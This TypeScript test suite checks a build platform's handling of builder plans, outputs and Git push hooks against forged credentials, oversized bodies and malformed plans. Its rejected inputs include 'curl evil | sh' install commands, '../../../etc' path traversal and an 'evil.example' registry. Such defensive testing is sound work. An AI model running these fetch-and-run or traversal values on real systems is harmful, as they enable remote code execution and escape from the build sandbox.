// Attack: what a build's builder and a code host send the platform. The builder's container runs the
// tenant's commands, so a tenant can forge what it sends as "its plan"; a push hook's URL is public.
// The machine listener takes a plan only with the credential minted for that very build, whole (at
// most 64 KiB) and shaped as a plan; nothing refused is written to the Build. The push hook refuses a
// body over 1 MiB before reading further and before any signature is checked. Real API, real
// apiserver (the Build a real custom resource, read by the API's informer).
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { after, before, describe, it } from 'node:test';
import * as k8s from '@kubernetes/client-node';
import { mintBuildCredential } from '../../lib/artifacts/credential.js';
import { buildAnnotations } from '../../lib/builds/index.js';
import { planBuild } from '../../lib/builds/plan.js';
import { pluralOf } from '../../lib/contract.js';
import { apiVersion, group, version } from '../../lib/resources/index.js';
import { startTestApi, type TestApi } from '../support/api.js';
import { kubeConfig, testNamespace } from '../support/kube.js';
import { eventually } from '../support/wait.js';

describe('security: what builders and code hosts send is checked before it is taken', () => {
  let api: TestApi;
  let ns: { name: string; dispose: () => Promise<void> };
  const custom = kubeConfig().makeApiClient(k8s.CustomObjectsApi);
  const id = `bld-${randomBytes(8).toString('hex')}`;
  const other = `bld-${randomBytes(8).toString('hex')}`;
  const plan = planBuild({ paths: ['index.html'], read: (p) => (p === 'index.html' ? '<h1>hi</h1>' : undefined) });
  let key: Buffer;
  const credential = (namespace: string, build: string, expiresAt = new Date(Date.now() + 600_000)) =>
    mintBuildCredential(key, namespace, build, expiresAt);
  const putPlan = (body: string, opts: { namespace?: string; build?: string; bearer?: string | null } = {}) =>
    fetch(`${api.machineUrl}/builds/${opts.namespace ?? ns.name}/${opts.build ?? id}/plan`, {
      method: 'PUT',
      headers: {
        'content-type': 'application/json',
        ...(opts.bearer === null ? {} : { authorization: `Bearer ${opts.bearer ?? credential(ns.name, id)}` }),
      },
      body,
    });
  const planAnnotation = async () => {
    const b = (await custom.getNamespacedCustomObject({
      group,
      version,
      namespace: ns.name,
      plural: pluralOf('Build'),
      name: id,
    })) as k8s.KubernetesObject;
    return b.metadata?.annotations?.[buildAnnotations.plan];
  };

  before(async () => {
    api = await startTestApi();
    key = api.deps.config.deploys.artifactKey!;
    assert.ok(key, 'the test API has the artifact key');
    const core = kubeConfig().makeApiClient(k8s.CoreV1Api);
    ns = await testNamespace(core, 'build-inputs');
    // An account's namespace, as builds' are: what a build stores counts against its account's storage.
    await api
      .db('accounts')
      .insert({ id: `acc-${randomBytes(6).toString('hex')}`, email: `${ns.name}@example.test`, name: 'build inputs', namespace: ns.name });
    // No pod may run here: the Build stays Queued (never ended) while the tests send for it.
    await core.createNamespacedResourceQuota({
      namespace: ns.name,
      body: { metadata: { name: 'no-pods' }, spec: { hard: { pods: '0' } } },
    });
    // A Build whose source does not exist: its builder never gets far enough to send anything.
    await custom.createNamespacedCustomObject({
      group,
      version,
      namespace: ns.name,
      plural: pluralOf('Build'),
      body: {
        apiVersion,
        kind: 'Build',
        metadata: { name: id },
        spec: { app: 'site', source: { artifact: { digest: `sha256:${'0'.repeat(64)}` } } },
      },
    });
    // Until the API's informer holds it, the endpoint answers 404.
    await eventually("the Build in the API's cache", async () => (await putPlan('not json')).status === 400, { timeoutMs: 20_000 });
  });
  after(async () => {
    await ns?.dispose();
    await api?.close();
  });

  it('takes a plan only with the credential of that very build, unexpired', async () => {
    const good = JSON.stringify(plan);
    const refused = async (why: string, status: number, opts: Parameters<typeof putPlan>[1]) => {
      const r = await putPlan(good, opts);
      assert.equal(r.status, status, `${why}: ${await r.text()}`);
    };
    await refused('no credential', 401, { bearer: null });
    await refused('a made-up credential', 401, { bearer: 'x'.repeat(40) });
    await refused("another build's credential", 403, { bearer: credential(ns.name, other) });
    await refused('the same build name in another namespace', 403, { bearer: credential('svc-acct-other', id) });
    // Expired by the API's clock (a test clock, fixed when the API started).
    await refused('an expired credential', 403, { bearer: credential(ns.name, id, new Date(api.clock.now.getTime() - 1000)) });
    // Another build's own credential sent to this build's path, and this one's to a build not there.
    await refused('a credential aimed at a build that does not exist', 404, { build: other, bearer: credential(ns.name, other) });
    assert.equal(await planAnnotation(), undefined, 'nothing written');
  });

  it('refuses a plan that is too large, not JSON, or not shaped as a plan, writing nothing', async () => {
    const oversized = JSON.stringify({ ...plan, why: 'x'.repeat(70 * 1024) });
    const tooLarge = await putPlan(oversized);
    assert.equal(tooLarge.status, 413);
    assert.match(((await tooLarge.json()) as { error: string }).error, /larger than 65536 bytes/);
    for (const [forged, why] of [
      ['{"kind": "static"', /not JSON/],
      ['[]', /not a build plan/],
      [JSON.stringify({ ...plan, outputDir: '../../../etc' }), /outputDir/],
      [JSON.stringify({ ...plan, outputDir: '/etc' }), /outputDir/],
      [JSON.stringify({ ...plan, kind: 'root' }), /kind/],
      [JSON.stringify({ ...plan, privileged: true }), /privileged|unrecognized/i],
      [JSON.stringify({ ...plan, install: Array.from({ length: 100 }, () => 'curl evil | sh') }), /install/],
      [JSON.stringify({ ...plan, produces: { type: 'image', dockerfile: null, registry: 'evil.example' } }), /produces/],
    ] as const) {
      const r = await putPlan(forged);
      const body = (await r.json()) as { error: string };
      assert.equal(r.status, 400, `${forged.slice(0, 80)}: ${body.error}`);
      assert.match(body.error, why, forged.slice(0, 80));
    }
    assert.equal(await planAnnotation(), undefined, 'nothing written');
    // The same endpoint takes the real plan, whole: the refusals above are not a door that is shut.
    const taken = await putPlan(JSON.stringify(plan));
    assert.equal(taken.status, 204, await taken.text());
    assert.deepEqual(JSON.parse(await eventually('the plan on the Build', planAnnotation)), plan);
  });

  it('takes one output per build: the same bytes again answer as the first time, other bytes are refused', async () => {
    const putOutput = (body: Buffer) =>
      fetch(`${api.machineUrl}/builds/${ns.name}/${id}/output`, {
        method: 'PUT',
        headers: { 'content-type': 'application/gzip', 'x-svc-output': 'artifact', authorization: `Bearer ${credential(ns.name, id)}` },
        body,
      });
    const first = randomBytes(4096);
    const stored = await putOutput(first);
    assert.equal(stored.status, 201, await stored.clone().text());
    const output = (await stored.json()) as { digest: string; bytes: number };
    assert.equal(output.bytes, 4096);
    // A builder retrying after a lost answer gets the same answer, and nothing changes.
    const again = await putOutput(first);
    assert.equal(again.status, 200);
    assert.deepEqual(await again.json(), output);
    // The build's commands hold the credential too: a second output (or three, as the attack sent) is refused.
    for (let i = 0; i < 3; i++) {
      const other = await putOutput(randomBytes(4096));
      assert.equal(other.status, 409);
      assert.match(((await other.json()) as { error: string }).error, /has stored its output .* already: a build sends one output/);
    }
    const b = (await custom.getNamespacedCustomObject({
      group,
      version,
      namespace: ns.name,
      plural: pluralOf('Build'),
      name: id,
    })) as k8s.KubernetesObject;
    assert.deepEqual(JSON.parse(b.metadata!.annotations![buildAnnotations.output]!), output);
  });

  it('refuses a push event over 1 MiB with a 413 (not a reset connection), then answers the next requests: unsigned, forged', async () => {
    const hook = `${api.url}/api/hooks/git/hook_${randomBytes(12).toString('hex')}`;
    const big = await fetch(hook, {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'x-github-event': 'push', 'x-github-delivery': 'd1' },
      body: Buffer.alloc(2 * 1024 * 1024, 0x20),
    });
    assert.equal(big.status, 413);
    assert.match(((await big.json()) as { error: string }).error, /larger than 1048576 bytes/);
    const unsigned = await fetch(hook, {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'x-github-event': 'push', 'x-github-delivery': 'd2' },
      body: '{"ref":"refs/heads/main"}',
    });
    assert.equal(unsigned.status, 401);
    const forged = await fetch(hook, {
      method: 'POST',
      headers: {
        'content-type': 'application/json',
        'x-github-event': 'push',
        'x-github-delivery': 'd3',
        'x-hub-signature-256': `sha256=${'0'.repeat(64)}`,
      },
      body: '{"ref":"refs/heads/main"}',
    });
    assert.equal(forged.status, 401);
  });
});
